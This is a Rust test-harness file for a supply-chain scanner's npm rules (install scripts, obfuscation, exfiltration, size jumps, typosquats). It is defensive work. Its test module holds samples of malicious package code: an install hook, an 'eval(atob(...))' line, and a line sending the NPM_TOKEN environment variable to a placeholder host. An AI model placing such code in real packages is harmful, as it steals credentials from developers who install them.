//! Runs the inline test cases of the `supply-chain` rules through [`crate::analyze`].
//!
//! A case is a package written as text, in one of three forms:
//!
//! - a JSON object: the package's `package.json`, and no other file;
//! - other text: `index.js`, beside a minimal `package.json`;
//! - sections, each opened by a line `--- <path>`: the package's files. Paths starting with
//!   `previous/` are the files of the previous version (which makes the case a release diff). A
//!   header may end with ` size=<bytes>` for a filler file of that many bytes (for size jumps).
//!
//! - a JSON object with one key, `registry-signals`: the facts a registry gave about a version
//!   ([`crate::RegistrySignals::from_json`]), run through [`crate::registry_findings`]; those
//!   findings are on line 1.
//!
//! Lines count in the whole case text (for sections: the header line plus the line in the
//! file), so `line = 3` in a rule file points at the third line of the case as written. The
//! typosquat check runs with [`SELF_TEST_SCOPE`] as the in-scope names.

use tarsier_rules::RuleSet;

use crate::{ANALYZERS, Options, PackageInput, analyze};

/// The in-scope names the typosquat cases are checked against.
pub const SELF_TEST_SCOPE: &[&str] = &[
    "express",
    "body-parser",
    "cookie-parser",
    "send",
    "serve-static",
    "path-to-regexp",
];

/// The default `package.json` of a case that gives only JavaScript.
const DEFAULT_MANIFEST: &str = r#"{"name": "test-package", "version": "1.0.0"}"#;

/// The outcome of one test case.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CaseOutcome {
    /// Rule id.
    pub rule_id: String,
    /// `invalid` or `valid`.
    pub kind: &'static str,
    /// 1-based index among that rule's cases of this kind.
    pub index: usize,
    /// Whether the case passed.
    pub passed: bool,
    /// What was expected and what came out.
    pub detail: String,
}

/// One file of a case: its path, its contents, and the case line its first line is on.
struct CaseFile {
    path: String,
    data: Vec<u8>,
    first_line: usize,
}

fn split_case(code: &str) -> Vec<CaseFile> {
    let trimmed = code.trim_start();
    if !trimmed.starts_with("--- ") {
        if trimmed.starts_with('{') {
            return vec![CaseFile {
                path: "package.json".into(),
                data: code.as_bytes().to_vec(),
                first_line: 1,
            }];
        }
        return vec![
            CaseFile {
                path: "package.json".into(),
                data: DEFAULT_MANIFEST.as_bytes().to_vec(),
                first_line: 0,
            },
            CaseFile {
                path: "index.js".into(),
                data: code.as_bytes().to_vec(),
                first_line: 1,
            },
        ];
    }
    let mut files: Vec<CaseFile> = Vec::new();
    for (i, line) in code.lines().enumerate() {
        if let Some(header) = line.strip_prefix("--- ") {
            let mut parts = header.split_whitespace();
            let path = parts.next().unwrap_or("unnamed").to_owned();
            let size = parts
                .find_map(|p| p.strip_prefix("size="))
                .and_then(|n| n.parse::<usize>().ok());
            files.push(CaseFile {
                path,
                data: size
                    .map(|n| vec![b'\n'; n.min(64 << 20)])
                    .unwrap_or_default(),
                first_line: i + 2,
            });
        } else if let Some(file) = files.last_mut() {
            file.data.extend_from_slice(line.as_bytes());
            file.data.push(b'\n');
        }
    }
    if !files.iter().any(|f| f.path == "package.json") {
        files.push(CaseFile {
            path: "package.json".into(),
            data: DEFAULT_MANIFEST.as_bytes().to_vec(),
            first_line: 0,
        });
    }
    files
}

fn borrow(v: &[(String, Vec<u8>)]) -> Vec<(&str, &[u8])> {
    v.iter().map(|(p, d)| (p.as_str(), d.as_slice())).collect()
}

/// Runs one case; returns the case lines of the rule's findings, or why it could not run.
pub fn run_case(rule_id: &str, code: &str) -> Result<Vec<usize>, String> {
    let mut lines: Vec<usize> = case_findings(code)?
        .into_iter()
        .filter(|(_, f)| f.rule_id == rule_id)
        .map(|(line, _)| line)
        .collect();
    lines.sort_unstable();
    Ok(lines)
}

/// Runs one case; returns every finding (of any rule) with its line in the case text, in the
/// order of the report.
pub fn case_findings(code: &str) -> Result<Vec<(usize, tarsier_model::Finding)>, String> {
    if let Ok(serde_json::Value::Object(doc)) = serde_json::from_str(code)
        && let Some(signals) = doc.get("registry-signals")
    {
        let signals = crate::RegistrySignals::from_json(signals)?;
        return Ok(crate::registry_findings("test-package", "1.0.1", &signals)
            .into_iter()
            .map(|f| (f.span.start_line, f))
            .collect());
    }
    let case = split_case(code);
    let (prev_files, files): (Vec<&CaseFile>, Vec<&CaseFile>) =
        case.iter().partition(|f| f.path.starts_with("previous/"));
    let as_input = |files: &[&CaseFile], strip: &str| -> Vec<(String, Vec<u8>)> {
        files
            .iter()
            .map(|f| {
                (
                    f.path.strip_prefix(strip).unwrap_or(&f.path).to_owned(),
                    f.data.clone(),
                )
            })
            .collect()
    };
    let next_owned = as_input(&files, "");
    let prev_owned = as_input(&prev_files, "previous/");
    let next_files = borrow(&next_owned);
    let prev_files_b = borrow(&prev_owned);
    let name_of = |files: &[(&str, &[u8])]| -> String {
        files
            .iter()
            .find(|(p, _)| *p == "package.json")
            .and_then(|(_, d)| serde_json::from_slice::<serde_json::Value>(d).ok())
            .and_then(|m| m.get("name")?.as_str().map(str::to_owned))
            .unwrap_or_else(|| "test-package".to_owned())
    };
    let name = name_of(&next_files);
    let next = PackageInput::from_files(&name, "1.0.1", &next_files).map_err(|e| e.to_string())?;
    let prev_name = name_of(&prev_files_b);
    let prev = if prev_files_b.is_empty() {
        None
    } else {
        let mut files = prev_files_b.clone();
        let default: &[u8] = DEFAULT_MANIFEST.as_bytes();
        if !files.iter().any(|(p, _)| *p == "package.json") {
            files.push(("package.json", default));
        }
        Some(PackageInput::from_files(&prev_name, "1.0.0", &files).map_err(|e| e.to_string())?)
    };
    let options = Options {
        in_scope: SELF_TEST_SCOPE.iter().map(|s| (*s).to_owned()).collect(),
        ..Options::default()
    };
    let report = analyze(&next, prev.as_ref(), &options);
    Ok(report
        .findings
        .into_iter()
        .map(|f| {
            let first = case
                .iter()
                .find(|c| c.path == f.path)
                .map_or(1, |c| c.first_line);
            (first + f.span.start_line - 1, f)
        })
        .collect())
}

/// Runs every inline case of the rules whose analyzer is one of [`ANALYZERS`] (rules of the
/// `supply-chain` pack naming another analyzer fail).
pub fn self_test(rules: &RuleSet) -> Vec<CaseOutcome> {
    let mut out = Vec::new();
    for rule in &rules.rules {
        let id = &rule.meta.id;
        let ours = rule
            .analyzer
            .as_deref()
            .is_some_and(|a| ANALYZERS.contains(&a));
        if !ours {
            if id.starts_with("supply-chain/") {
                out.push(CaseOutcome {
                    rule_id: id.clone(),
                    kind: "invalid",
                    index: 0,
                    passed: false,
                    detail: format!(
                        "a supply-chain rule must name one of the analyzers {}",
                        ANALYZERS.join(", ")
                    ),
                });
            }
            continue;
        }
        for (i, case) in rule.tests.invalid.iter().enumerate() {
            let mut want = case.expected_lines();
            want.sort_unstable();
            let (passed, detail) = match run_case(id, &case.code) {
                Ok(got) => (
                    got == want,
                    format!("expected findings on lines {want:?}, got {got:?}"),
                ),
                Err(e) => (false, format!("the case is not a package: {e}")),
            };
            out.push(CaseOutcome {
                rule_id: id.clone(),
                kind: "invalid",
                index: i + 1,
                passed,
                detail,
            });
        }
        for (i, code) in rule.tests.valid.iter().enumerate() {
            let (passed, detail) = match run_case(id, code) {
                Ok(got) => (
                    got.is_empty(),
                    format!("expected no finding, got findings on lines {got:?}"),
                ),
                Err(e) => (false, format!("the case is not a package: {e}")),
            };
            out.push(CaseOutcome {
                rule_id: id.clone(),
                kind: "valid",
                index: i + 1,
                passed,
                detail,
            });
        }
    }
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::rule_ids::*;

    #[test]
    fn single_file_cases() {
        let lines = run_case(
            INSTALL_SCRIPT,
            "{\n  \"name\": \"x\",\n  \"scripts\": { \"postinstall\": \"node a.js\" }\n}",
        )
        .unwrap();
        assert_eq!(lines, vec![3]);
        let lines = run_case(OBFUSCATED_CODE, "\n\neval(atob('YQ=='));\n").unwrap();
        assert_eq!(lines, vec![3]);
    }

    #[test]
    fn sectioned_cases_count_lines_in_the_whole_case() {
        let case = "--- previous/package.json\n{\"name\": \"x\"}\n--- package.json\n{\"name\": \"x\",\n \"scripts\": {\"install\": \"node i.js\"}}\n--- i.js\nrequire('https').get('https://h.invalid/' + process.env.NPM_TOKEN);\n";
        assert_eq!(run_case(RELEASE_INSTALL_SCRIPT, case).unwrap(), vec![5]);
        assert_eq!(run_case(INSTALL_SCRIPT, case).unwrap(), vec![5]);
        assert_eq!(run_case(EXFILTRATION, case).unwrap(), vec![7]);
        let size =
            "--- previous/package.json\n{}\n--- package.json\n{}\n--- blob.txt size=400000\n";
        assert_eq!(run_case(RELEASE_SIZE_JUMP, size).unwrap(), vec![4]);
    }

    #[test]
    fn broken_cases_are_reported_not_panics() {
        assert!(run_case(INSTALL_SCRIPT, "{ not json").is_err());
    }
}
